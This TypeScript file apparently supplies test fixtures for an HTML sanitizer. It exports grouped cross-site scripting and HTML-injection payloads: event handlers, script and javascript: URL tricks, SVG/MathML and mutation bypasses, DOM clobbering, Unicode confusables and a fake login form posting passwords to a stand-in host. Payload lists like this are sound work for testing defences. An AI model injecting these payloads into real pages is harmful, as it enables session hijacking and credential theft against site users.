// HTML that tries to run, to load or to pretend, in the manner of the public lists. `HIT` stands for what an attack would
// run: it sets a mark on the page and asks a host that nobody may ask.

const HIT = "window.__hit=1;fetch('https://evil.example/hit')";
const HOST = 'https://evil.example';

/** Handlers of events. */
const HANDLERS = [
  `<img src=x onerror="${HIT}">`,
  `<img src=x onerror=&#119;indow.__hit=1>`,
  `<IMG SRC=x ONERROR="${HIT}">`,
  `<img/src=x/onerror=window.__hit=1>`,
  `<img src="x" \u0000onerror="${HIT}">`,
  `<img src=x:x onerror\n=\n"${HIT}">`,
  `<body onload="${HIT}">`,
  `<details open ontoggle="${HIT}"><summary>x</summary></details>`,
  `<p onpointerenter="${HIT}" onclick="${HIT}" onfocus="${HIT}" tabindex=0 autofocus>hover</p>`,
  `<input autofocus onfocus="${HIT}">`,
  `<select autofocus onfocus="${HIT}"></select>`,
  `<textarea autofocus onfocus="${HIT}"></textarea>`,
  `<video src=x onerror="${HIT}"><source onerror="${HIT}"></video>`,
  `<audio src=x onerror="${HIT}"></audio>`,
  `<marquee onstart="${HIT}">x</marquee>`,
  `<div style="animation:spin 1s" onanimationstart="${HIT}">x</div>`,
  `<div popover id=p onbeforetoggle="${HIT}">x</div><button popovertarget=p>x</button>`,
  `<a href="#" onclick="${HIT}">click</a>`,
];

/** Scripts, whole or in pieces. */
const SCRIPTS = [
  `<script>${HIT}</script>`,
  `<SCRIPT SRC=${HOST}/x.js></SCRIPT>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<script/x>${HIT}</script>`,
  `<script type=module>${HIT}</script>`,
  `<script type="text/template">${HIT}</script>`,
  `<<script>${HIT}//<</script>`,
  `<noembed><script>${HIT}</script></noembed>`,
  `<template><script>${HIT}</script></template>`,
  `<div><template shadowrootmode=open><img src=x onerror="${HIT}"></template></div>`,
];

/** Addresses that are code or carry a document. */
const ADDRESSES = [
  `<a href="javascript:${HIT}">x</a>`,
  `<a href="JaVaScRiPt:${HIT}">x</a>`,
  `<a href="java\tscript:${HIT}">x</a>`,
  `<a href="java\nscript:${HIT}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__hit=1">x</a>`,
  `<a href="&#x6A;avascript&colon;window.__hit=1">x</a>`,
  `<a href="javascript&Tab;:window.__hit=1">x</a>`,
  `<a href=" \u0001javascript:${HIT}">x</a>`,
  `<a href="\u200Bjavascript:${HIT}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="livescript:${HIT}">x</a>`,
  `<a href="view-source:javascript:${HIT}">x</a>`,
  `<a href="blob:https://evil.example/1">x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a href="data:text/html,<script>${HIT}</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="https://waterlily.example@evil.example/">our site</a>`,
  `<img src="javascript:${HIT}">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${HIT}'/>">`,
  `<img src="http://evil.example/plain.png" alt="plain">`,
  `<img srcset="${HOST}/1.png 1x" src=/own.png>`,
  `<picture><source srcset="${HOST}/2.png"><img src="http://evil.example/3.png"></picture>`,
  `<img src=/own.png lowsrc=${HOST}/4.png dynsrc=${HOST}/5.png longdesc="javascript:${HIT}">`,
  `<table background="${HOST}/6.png"><tr><td background="javascript:${HIT}">x</td></tr></table>`,
  `<blockquote cite="javascript:${HIT}">x</blockquote>`,
  `<a href=/x ping="${HOST}/ping">x</a>`,
];

/** Other name spaces and documents in the document. */
const NAMESPACES = [
  `<svg onload="${HIT}"></svg>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><a xlink:href="javascript:${HIT}"><text y=20>x</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${HIT}" /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload='${HIT}'/>#x"></use></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${HIT}</script>"></iframe></foreignObject></svg>`,
  `<svg><image href="${HOST}/7.png"></image></svg>`,
  `<math><mtext></p><img src=x onerror="${HIT}">`,
  `<math href="javascript:${HIT}">x</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${HIT}"></annotation-xml></math>`,
  `<iframe src="javascript:${HIT}"></iframe>`,
  `<iframe srcdoc="<img src=x onerror='${HIT}'>"></iframe>`,
  `<frameset><frame src="${HOST}"></frameset>`,
  `<object data="data:text/html,<script>${HIT}</script>"></object>`,
  `<embed src="${HOST}/8.svg">`,
  `<applet code="x" archive="${HOST}/9.jar"></applet>`,
  `<portal src="${HOST}"></portal>`,
];

/** What changes its meaning when it is written out and read again. */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=window.__hit=1>">`,
  `<style><a title="</style><img src=x onerror=window.__hit=1>">`,
  `<title><a title="</title><img src=x onerror=window.__hit=1>"></title>`,
  `<textarea><a title="</textarea><img src=x onerror=window.__hit=1>">`,
  `<xmp><p title="</xmp><img src=x onerror=window.__hit=1>">`,
  `<svg></p><style><a title="</style><img src=x onerror=window.__hit=1>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.__hit=1&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.__hit=1 src>">`,
  `<svg><![CDATA[><img src=x onerror=window.__hit=1>]]></svg>`,
  `<!--><img src=x onerror="${HIT}">-->`,
  `<!--[if gte IE 4]><script>${HIT}</script><![endif]-->`,
  `<?xml version="1.0"?><img src=x onerror="${HIT}">`,
  `<p>&lt;img src=x onerror=window.__hit=1&gt;</p>`,
  `<select><template><img src=x onerror="${HIT}"></template></select>`,
  `<table><tr><td><svg><desc><table><p></table><img src=x onerror="${HIT}">`,
];

/** What would take over the page around it. */
const PAGES = [
  `<meta http-equiv=refresh content="0;url=${HOST}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href="${HOST}/">`,
  `<link rel=stylesheet href="${HOST}/10.css">`,
  `<link rel=prefetch href="${HOST}/11">`,
  `<style>@import url("${HOST}/12.css"); body { display: none }</style>`,
  `<p style="background:url(${HOST}/13.png);position:fixed;inset:0;z-index:9999">over everything</p>`,
  `<p style="width:expression(${HIT})">x</p>`,
  `<form action="${HOST}/steal"><input name=password type=password><button>Log in</button></form>`,
  `<button form=login formaction="javascript:${HIT}">x</button>`,
  `<isindex action="javascript:${HIT}">`,
  `<img name=body><img name=getElementById><a id=location href="${HOST}">x</a>`,
  `<form id=document><input name=attributes></form>`,
  `<a id=merchant></a><a id=merchant name=x href="${HOST}">x</a>`,
  `<p class="sr" id="main" role="dialog" aria-modal="true" data-autofocus>x</p>`,
  `<div contenteditable is="x-y" slot="x" part="x">x</div>`,
  `<dialog open>Session over. <input type=password></dialog>`,
  `<x-login onclick="${HIT}">x</x-login>`,
];

/** Letters that mislead. */
const LETTERS = [
  `<p>your money is \u202Eefas ton\u202C here</p>`,
  `<scr\u0131pt>${HIT}</scr\u0131pt>`,
  `<\u017Fcript>${HIT}</\u017Fcript>`,
  `\uFF1Cscript\uFF1E${HIT}\uFF1C/script\uFF1E`,
  `<img src=x one\u0000rror="${HIT}">`,
  `+ADw-script+AD4-window.__hit=1+ADw-/script+AD4-`,
];

/** The list by what an attack sets its hopes on. */
export const PAYLOAD_GROUPS: Readonly<Record<string, readonly string[]>> = {
  handlers: HANDLERS,
  scripts: SCRIPTS,
  addresses: ADDRESSES,
  namespaces: NAMESPACES,
  mutations: MUTATIONS,
  pages: PAGES,
  letters: LETTERS,
};

/** A well-known list: each is a text of a merchant whose account was taken over. */
export const PAYLOADS: readonly string[] = Object.values(PAYLOAD_GROUPS).flat();
